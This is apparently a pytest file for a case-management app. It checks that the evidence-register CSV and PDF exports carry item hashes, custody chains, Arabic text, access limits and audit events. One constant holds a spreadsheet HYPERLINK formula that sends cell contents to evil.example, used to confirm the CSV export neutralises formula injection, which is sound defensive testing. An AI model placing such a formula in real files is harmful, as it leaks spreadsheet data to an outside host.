"""The evidence register exported as PDF and CSV: every item, its hash and custody; formulas neutralised; audited."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import unicodedata
from datetime import datetime
from pathlib import Path

import sqlalchemy as sa

from caseflow.extensions import db
from caseflow.investigation import evidence as ev
from caseflow.models import AuditEvent, EvidenceItem
from tests.attacks.samples import pdf_with_metadata
from tests.conftest import login
from tests.workspace_helpers import investigation_case

SHOTS = Path(__file__).resolve().parents[2] / "instance" / "screenshots"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


def _register(users, case):
    lead = users["investigator"]
    first = ev.register_evidence(case, lead, FORMULA, "+Broker's office", "Safe 2",
                                 upload=("ledger.pdf", pdf_with_metadata()), received_at=datetime(2026, 2, 27, 14))
    second = ev.register_evidence(case, lead, "USB stick, blue, 16 GB", "Seized at gate 4 from Karim Benali",
                                  "Locker 7", upload=("usb.txt", b"USB image listing\n"),
                                  received_at=datetime(2026, 2, 28, 9))
    third = ev.register_evidence(case, lead, "دفتر حسابات الوسيط", "Broker", "Safe 2",
                                 received_at=datetime(2026, 3, 1, 8))
    ev.hand_over(second, lead, "Forensic lab (R. Diallo)", datetime(2026, 3, 1, 11), "Imaging of the stick")
    db.session.commit()
    return [first, second, third]


def _pdf_text(pdf: bytes) -> str:
    text = subprocess.run(["pdftotext", "-layout", "-", "-"], input=pdf, capture_output=True, check=True).stdout
    return unicodedata.normalize("NFKC", text.decode())


def test_the_csv_lists_items_and_custody_and_neutralises_formulas(client, users, login_as, clock):
    case = investigation_case(users)
    items = _register(users, case)
    login_as(users["investigator"])
    r = client.get(f"/cases/{case.number}/investigation/evidence/register.csv")
    assert r.status_code == 200 and r.content_type.startswith("text/csv")
    assert "attachment" in r.headers["Content-Disposition"] and r.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)  # nothing a spreadsheet would run
    assert "'" + FORMULA in cells and "'+Broker's office" in cells
    by_number = {row[0]: row for row in rows if len(row) == 9 and row[0].startswith(case.number)}
    assert by_number[items[0].number][7] == items[0].sha256 and by_number[items[1].number][7] == items[1].sha256
    assert by_number[items[0].number][2] == "2026-02-27 14:00"  # installation time (UTC here)
    chain = [row for row in rows if row and row[0] == items[1].number and len(row) == 7]
    assert [(row[3], row[4]) for row in chain] == [("Seized at gate 4 from Karim Benali", "Ivan Petrov"),
                                                   ("Ivan Petrov", "Forensic lab (R. Diallo)")]
    event = db.session.scalar(sa.select(AuditEvent).where(AuditEvent.action == "export.evidence_register"))
    assert event is not None and event.case_id == case.id and '"handovers":4' in event.detail


def test_the_pdf_carries_every_items_hash_and_custody(client, users, login_as, clock):
    case = investigation_case(users)
    items = _register(users, case)
    login_as(users["investigator"])
    r = client.get(f"/cases/{case.number}/investigation/evidence/register.pdf")
    assert r.status_code == 200 and r.content_type == "application/pdf"
    text = _pdf_text(r.data)
    flat = re.sub(r"\s+", "", text)
    for item in items:
        assert item.number in text
        if item.sha256:
            assert item.sha256 in flat
    assert "Forensic lab (R. Diallo)" in text and "Imaging of the stick" in text and "Received and registered" in text
    assert text.count(f"Evidence register · {case.number}") >= 2  # the case heads every page
    SHOTS.mkdir(parents=True, exist_ok=True)
    (SHOTS / "evidence-register.pdf").write_bytes(r.data)
    subprocess.run(["pdftoppm", "-r", "70", "-png", "-f", "1", "-l", "1", "-singlefile",
                    str(SHOTS / "evidence-register.pdf"), str(SHOTS / "evidence-register")], check=True)
    assert (SHOTS / "evidence-register.png").stat().st_size > 5000


def test_the_arabic_pdf_renders(client, users, login_as, clock):
    case = investigation_case(users)
    _register(users, case)
    login_as(users["investigator"])
    client.set_cookie("caseflow_lang", "ar")
    r = client.get(f"/cases/{case.number}/investigation/evidence/register.pdf")
    assert r.status_code == 200
    text = _pdf_text(r.data)
    assert case.number in text and db.session.scalar(sa.select(EvidenceItem.sha256).where(
        EvidenceItem.sha256.is_not(None)).limit(1)) in re.sub(r"\s+", "", text)
    (SHOTS / "evidence-register-ar.pdf").parent.mkdir(parents=True, exist_ok=True)
    (SHOTS / "evidence-register-ar.pdf").write_bytes(r.data)
    subprocess.run(["pdftoppm", "-r", "70", "-png", "-f", "1", "-l", "1", "-singlefile",
                    str(SHOTS / "evidence-register-ar.pdf"), str(SHOTS / "evidence-register-ar")], check=True)


def test_only_the_workspace_may_export_and_an_unknown_format_is_404(app, client, users, login_as, clock):
    case = investigation_case(users)
    _register(users, case)
    for outsider in ("investigator2", "intake"):  # not on the team; no workspace
        other = app.test_client()
        assert login(other, users[outsider]).status_code == 302
        assert other.get(f"/cases/{case.number}/investigation/evidence/register.csv").status_code == 403
    login_as(users["investigator"])
    assert client.get(f"/cases/{case.number}/investigation/evidence/register.xlsx").status_code == 404
    assert db.session.scalar(sa.select(sa.func.count(AuditEvent.id)).where(
        AuditEvent.action == "export.evidence_register")) == 0
